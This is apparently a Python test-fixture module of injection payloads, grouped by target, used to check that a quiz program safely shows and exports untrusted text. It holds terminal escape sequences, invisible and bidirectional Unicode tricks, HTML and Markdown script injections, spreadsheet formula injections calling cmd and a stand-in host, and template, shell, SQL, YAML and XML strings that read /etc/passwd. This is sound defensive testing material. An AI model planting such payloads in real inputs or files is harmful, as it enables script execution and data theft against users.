"""Texts that try to do something to whoever shows, exports or opens them.

`EVIL` is a word in each part of a text that would act: it must never end up in an element, an attribute or a formula.
"""

from __future__ import annotations

EVIL = "zgcevil"
PINK = "\x1b[38;5;201m"
"""A colour that zgcquiz never uses, so that a screen shows whether a text has set it."""

CONTROLS = {
    "colours": f"a{PINK}b\x1b[5mc\x1b[7md\x1b[0m",
    "cursor movement": "a\x1b[2J\x1b[H\x1b[10A\x1b[999Db\x1b[s\x1b[u",
    "window title": "a\x1b]0;zgcevil\x07b\x1b]2;zgcevil\x1b\\c",
    "clipboard": "a\x1b]52;c;emdjZXZpbA==\x07b",
    "hyperlink": "a\x1b]8;;http://zgcevil.example/\x1b\\b\x1b]8;;\x1b\\c",
    "notification": "a\x1b]9;zgcevil\x07b\x1b]777;notify;zgcevil;zgcevil\x07c",
    "working folder": "a\x1b]7;file:///zgcevil\x07b",
    "palette": "a\x1b]4;1;#ff00ff\x07b\x1b]11;#ff00ff\x07c",
    "iTerm file": "a\x1b]1337;File=name=emdj;inline=1:emdj\x07b",
    "device control": "a\x1bPq#0;2;0;0;0#0~~\x1b\\b\x1bP+q544e\x1b\\c",
    "application commands": "a\x1b_Gzgcevil\x1b\\b\x1b^zgcevil\x1b\\c\x1bXzgcevil\x1b\\d",
    "reports": "a\x1b[c\x1b[6n\x1b[>c\x1b[21t\x05b",
    "alternate screen": "a\x1b[?1049hb\x1b[?25lc",
    "mouse and paste": "a\x1b[?1000h\x1b[?2004hb",
    "reset": "a\x1bcb\x1b[!pc",
    "character sets": "a\x1b(0b\x0ec\x0fd\x1b%Ge",
    "key macros": 'a\x1b[0;59;"zgcevil";13pb',
    "C1 codes": "a\x9b5mb\x9d0;zgcevil\x9cc\x90q\x9cd\x84e\x85f\x8dg\x9fh\x9c",
    "bell and backspace": "a\x07b\x08\x08c\x0bd\x0ce\x7ff",
    "carriage return": "harmless\rhidden",
    "NUL": "a\x00b",
    "end of file": "a\x1ab\x04c",
    "unfinished escape": "a\x1b",
    "unfinished title": "a\x1b]0;",
    "separators": "a\u2028b\u2029c\x1cd\x1ee",
}
INVISIBLE = {
    "bidirectional override": "a\u202ezgcevil\u202cb\u202dc\u202c",
    "bidirectional isolates": "a\u2066b\u2067c\u2068d\u2069e",
    "unclosed embeddings": "\u202a\u202b\u202e\u2067" * 20 + "a",
    "direction marks": "a\u200eb\u200fc\u061cd",
    "trojan source": "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */",
    "zero width": "a\u200bb\u2060c\u00add\u180ee\ufeffe",
    "joiners": "a\u200cb\u200dc",
    "tag characters": "a\U000e0001\U000e007a\U000e0067\U000e0063\U000e007fb",
    "variation selectors": "a\ufe00\ufe0f\U000e0100\U000e01efb",
    "fillers": "a\u115f\u1160\u3164\uffa0\u2800b",
    "stacked accents": "a" + "\u0301" * 300 + "b",
    "interlinear": "a\ufff9b\ufffac\ufffbd",
    "deprecated format": "a\u206ab\u206ec\u206fd",
    "nobody's characters": "a\uffffb\ufffec\ufdd0d\U0010ffffe",
    "private use": "a\ue000b\uf8ffc\U000f0000d",
    "musical beams": "a\U0001d173b\U0001d17ac",
    "wide": "\ufdfd\U0001242b\u9f98" * 10,
    "look-alikes": "\u0440\u0430\u0443\u0440\u0430\u04cf",
    "decomposed": "e\u0301 \u212b \u1e9b\u0323 \ufb01",
}
MARKUP = {
    "Rich styles": "[blink]a[/blink] [red on blue]b[/] [/] [[c]] [bold",
    "Rich link": "[link=http://zgcevil.example]a[/link] [@click=app.bell('zgcevil')]b[/]",
    "Rich emoji": ":skull: :smile: :warning:",
    "script": "a<script>zgcevil()</script>b<SCRIPT SRC=//zgcevil.example></SCRIPT>",
    "event handler": "a<img src=x onerror=zgcevil()><body onload=zgcevil()>b",
    "unclosed handler": "a<img src=x onerror=zgcevil() ",
    "attribute end": 'a" onmouseover="zgcevil()" x="\' onmouseover=\'zgcevil()',
    "svg": "<svg/onload=zgcevil()><svg><script>zgcevil()</script><animate onbegin=zgcevil() attributeName=x></svg>",
    "frames": "<iframe src=javascript:zgcevil()></iframe><object data=zgcevil><embed src=zgcevil>",
    "forms": "<form action=http://zgcevil.example><input name=a autofocus onfocus=zgcevil()><button>b</button></form>",
    "style sheet": "<style>@import 'http://zgcevil.example';</style><p style=background:url(zgcevil)>a</p></style>",
    "page headers": "<base href=//zgcevil.example><meta http-equiv=refresh content=0;url=zgcevil><link href=zgcevil>",
    "script link": "<a href=javascript:zgcevil()>a</a><a href=' java&#x09;script:zgcevil()'>b</a>",
    "data link": "<a href=data:text/html,zgcevil>a</a>",
    "comment end": "a--><script>zgcevil()</script><!-- --!><img src=zgcevil>",
    "CDATA end": "a]]><script>zgcevil()</script><![CDATA[b",
    "title end": "</title></style></textarea></script><script>zgcevil()</script>",
    "encoded script": "&lt;script&gt;zgcevil()&lt;/script&gt; &#60;script&#62;zgcevil()&#60;/script&#62;",
    "twice encoded script": "&amp;lt;script&amp;gt;zgcevil()&amp;lt;/script&amp;gt;",
    "math with a link": "<math><maction actiontype=statusline xlink:href=javascript:zgcevil()>a</maction></math>",
    "Markdown script link": "[a](javascript:zgcevil()) [b](<javascript:zgcevil()>) [c][d]\n\n[d]: javascript:zgcevil()",
    "Markdown image": "![a](http://zgcevil.example/x.png) ![b](zgcevil 'c')",
    "Markdown links": "<http://zgcevil.example> <javascript:zgcevil()> [[zgcevil]] [^zgcevil]",
    "Markdown HTML block": "a\n\n<div onclick=zgcevil()>\n\nb\n\n</div>\n\n<script>\nzgcevil()\n</script>",
    "Markdown code end": "a\n  ```\n</code></pre><script>zgcevil()</script>\n  ~~~\n   b",
    "Markdown heading": "a\n# zgcevil\n---\nb\n===\n",
    "Markdown attributes": "a{: onclick=zgcevil() } b{onclick=zgcevil()}",
    "code to run": "a\n```{.python .run}\nimport os; os.system('zgcevil')\n```\n`a`{.python .run}",
    "inclusion": '--8<-- "/etc/passwd"\n{% include "/etc/passwd" %}\n.. include:: /etc/passwd\n!include /etc/passwd',
    "GIFT HTML": "[html]<script>zgcevil()</script>",
    "plug-in files": "@@PLUGINFILE@@/../../zgcevil <img src='@@PLUGINFILE@@/zgcevil'>",
}
FORMULAS = {
    "equals": "=cmd|' /C zgcevil'!A0",
    "plus": "+cmd|' /C zgcevil'!A0",
    "minus": "-2+3+cmd|' /C zgcevil'!A0",
    "at": "@SUM(zgcevil)",
    "tab": "\t=HYPERLINK(zgcevil)",
    "return": "\r=HYPERLINK(zgcevil)",
    "line feed": "\n=HYPERLINK(zgcevil)",
    "space": " =HYPERLINK(zgcevil)",
    "full-width equals": "\uff1dHYPERLINK(zgcevil)",
    "full-width plus": "\uff0bHYPERLINK(zgcevil)",
    "full-width minus": "\uff0dHYPERLINK(zgcevil)",
    "full-width at": "\uff20HYPERLINK(zgcevil)",
    "quoted": '"=HYPERLINK(zgcevil)"',
    "next cell": 'a",=HYPERLINK(zgcevil),"b\n=HYPERLINK(zgcevil);=HYPERLINK(zgcevil)\t=HYPERLINK(zgcevil)',
    "apostrophe": "'=HYPERLINK(zgcevil)",
    "almost a number": "-1+HYPERLINK(zgcevil)",
    "a function of the web": '=WEBSERVICE("http://zgcevil.example/"&A1)',
}
TEMPLATES = {
    "Mustache": "{{zgcevil}} {{{zgcevil}}} {{#Options}}a{{/Options}} {{^a}}b{{/a}} {{>zgcevil}} {{=<% %>=}}",
    "Anki fields": "{{FrontSide}} {{Tags}} {{type:Data}} {{c1::zgcevil::hint}} {{hint:Data}} {{tts en_US:Data}}",
    "Anki LaTeX": "[latex]\\input{/etc/passwd}[/latex] [$]\\input{zgcevil}[/$] [$$]\\write18{zgcevil}[/$$]",
    "Anki sounds": "[sound:zgcevil.mp3] [sound:../../zgcevil] [anki:tts lang=en_US]zgcevil[/anki:tts] [anki:play:q:0]",
    "LaTeX": "\\input{/etc/passwd} \\write18{zgcevil} \\include{zgcevil} \\openin\\csname zgcevil\\endcsname",
    "MathJax": "\\(\\href{javascript:zgcevil()}{a}\\) $\\require{unicode}\\unicode{zgcevil}$ \\[\\style{zgcevil}{a}\\]",
    "MathJax with HTML": "$<img src=x onerror=zgcevil()>$ $$a<script>zgcevil()</script>$$",
    "Jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }} {% for zgcevil in a %} {# b #}",
    "format string": "{0.__class__.__init__.__globals__} {zgcevil} {!r} {:>99999999} {",
    "percent": "%s %n %d %(zgcevil)s %99999999d %",
    "template literal": "${zgcevil} $zgcevil #{zgcevil} <%= zgcevil %> <?php zgcevil() ?>",
    "shell": "$(zgcevil) `zgcevil` ; zgcevil | zgcevil && zgcevil > /tmp/zgcevil # a",
    "options": "--output=/tmp/zgcevil -o/tmp/zgcevil --help",
    "paths": "../../../zgcevil /etc/passwd ..\\..\\zgcevil C:\\zgcevil \\\\zgcevil\\share ~/zgcevil file:///etc/passwd",
    "SQL": "'); DROP TABLE reviews; -- zgcevil",
    "YAML": "a: &b [*b]\n- !!python/object/apply:os.system [zgcevil]\n--- # c",
    "JSON": '"}],"zgcevil":{"__proto__":1}',
    "XML": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b; <xi:include href='zgcevil'/> <?zgcevil?>",
    "regular expression": "(a+)+$ [[:zgcevil:]] (?R)\\1",
    "long word": "a" * 900,
    "long text": "a b\n" * 220,
    "brackets": "([{<" * 220,
    "stars": "*_~`" * 220,
}
GROUPS = {
    "controls": CONTROLS,
    "invisible": INVISIBLE,
    "markup": MARKUP,
    "formulas": FORMULAS,
    "templates": TEMPLATES,
}
"""The payloads by what they attack."""


def all_payloads() -> dict[str, str]:
    """Return every payload by its group and name."""
    return {f"{group}: {name}": text for group, texts in GROUPS.items() for name, text in texts.items()}
